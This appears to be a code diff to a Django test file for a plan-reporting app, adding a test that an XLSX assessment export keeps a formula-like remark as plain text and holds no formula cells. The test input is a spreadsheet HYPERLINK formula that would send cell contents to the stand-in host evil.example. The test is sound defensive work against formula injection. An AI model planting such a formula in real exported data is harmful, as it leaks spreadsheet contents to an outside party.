@@ -8,7 +8,7 @@ import subprocess
 import pytest
 from django.contrib.auth import get_user_model
 
-from indicators.models import PeriodState
+from indicators.models import PeriodState, Progress
 from indicators.workflow import period_transition
 from reports.models import ApprovedReport, JobStatus, ReportJob
 
@@ -237,3 +237,23 @@ def test_assessment_table_xlsx_follows_report_visibility(client, demo):
     assert client.get(url).status_code == 404
     client.force_login(user("cabinet.reviewer"))
     assert client.get(url).status_code == 404
+
+
+def test_assessment_table_xlsx_gives_the_reviewer_a_formula_like_remark_as_text(client, demo, inline_jobs):
+    """OWASP "CSV Injection": a remark beginning with "=" reaches the reviewer's table as a text cell with the
+    remark as written, not as a formula their Excel would run."""
+    import io
+
+    from openpyxl import load_workbook
+
+    remark = '=HYPERLINK("http://evil.example/?x="&A1,"বিস্তারিত")'
+    Progress.objects.filter(indicator__plan=demo, indicator__code="1.3.1", quarter=1).update(remark=remark)
+    move(demo, 1, "submit", "approve", "send")
+    client.force_login(user("cabinet.reviewer"))
+    response = client.get("/plans/mofa/2022-23/reports/quarterly-1-table.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(row for row in sheet.iter_rows(min_row=4) if str(row[4].value).startswith("[১.৩.১]"))
+    remark_cell = row[-1]
+    assert (remark_cell.data_type, remark_cell.value) == ("s", remark)
+    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
